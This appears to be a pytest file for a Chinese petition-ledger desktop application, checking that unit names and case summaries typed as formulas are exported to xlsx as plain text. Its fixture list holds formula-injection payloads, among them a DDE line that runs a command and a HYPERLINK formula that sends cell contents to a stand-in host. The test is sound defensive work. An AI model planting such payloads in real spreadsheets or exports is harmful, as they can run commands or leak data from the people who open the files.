"""Issue 17: a summary or a unit name typed as a formula is exported as the text typed, never as a live formula —
in the ledger export, the oversight table and the assessment table (read back with openpyxl: no cell is a formula)."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import update

from tests.reports.oversight_fixture import YEAR, setup_ledger, write_annex_xlsx
from xinfang_desktop.core.assessment import RATES, AssessmentPeriod, Grouping
from xinfang_desktop.core.ledger import LedgerFilter
from xinfang_desktop.persistence.database import Database
from xinfang_desktop.persistence.oversight_store import import_assignments
from xinfang_desktop.persistence.records import CaseRecord, UnitRecord
from xinfang_desktop.reports import assessment, oversight
from xinfang_desktop.reports.ledger_export import export_ledger

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
]
RENAMED = ["市发改委", "市建设局", "市卫生计生委", "市国土局", "丽水开发区"]  # contact units of the seed annex


def _hostile_ledger(db: Database, tmp_path: Path) -> None:
    setup_ledger(db)
    with db.write_session() as s:
        for old, new in zip(RENAMED, HOSTILE, strict=True):
            s.execute(update(UnitRecord).where(UnitRecord.name == old).values(name=new))
        ids = s.scalars(CaseRecord.__table__.select().with_only_columns(CaseRecord.id).order_by(CaseRecord.id)).all()
        for case_id, text in zip(ids, HOSTILE, strict=False):
            s.execute(update(CaseRecord).where(CaseRecord.id == case_id).values(summary=text))
    names = dict(zip(RENAMED, HOSTILE, strict=True))
    rows = oversight.read_xlsx(write_annex_xlsx(tmp_path / "annex.xlsx"))
    import_assignments(db, YEAR, [replace(r, contact=names.get(r.contact, r.contact)) for r in rows])


def _cells(path: Path) -> list[Any]:
    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula(path: Path, expected: list[str]) -> None:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {str(c.value) for c in cells if isinstance(c.value, str) or c.data_type == "s"}
    for text in expected:
        assert text in texts, text  # shown exactly as typed, nothing prefixed


def test_ledger_export_writes_formula_like_text_as_text(db: Database, tmp_path: Path) -> None:
    _hostile_ledger(db, tmp_path)
    out = tmp_path / "台账.xlsx"
    result = export_ledger(db, out, LedgerFilter(), columns=("number", "summary", "unit"))
    assert result.rows > len(HOSTILE)
    _assert_no_formula(out, HOSTILE)


def test_oversight_report_xlsx_writes_unit_names_as_text(db: Database, tmp_path: Path) -> None:
    _hostile_ledger(db, tmp_path)
    report = oversight.oversight_report(db, YEAR)
    assert {r.contact_unit for r in report.rows} >= set(HOSTILE)
    out = tmp_path / "督查表.xlsx"
    oversight.write_xlsx(report, out)
    _assert_no_formula(out, HOSTILE)
    # and the table still reads back: the names are the names typed
    again = oversight.read_xlsx(out)
    assert {r.contact for r in again} >= set(HOSTILE)


def test_assessment_xlsx_writes_unit_names_as_text(db: Database, tmp_path: Path) -> None:
    _hostile_ledger(db, tmp_path)
    period = AssessmentPeriod(date(2017, 1, 1), date(2018, 12, 31))
    report = assessment.assessment_report(db, period, Grouping.UNIT, today=date(2018, 12, 31))
    names = {row.name for row in report.rows()}
    assert names >= set(HOSTILE)
    out = tmp_path / "考核.xlsx"
    assessment.write_xlsx(report, out, report.ranking(RATES[0]))
    _assert_no_formula(out, HOSTILE)
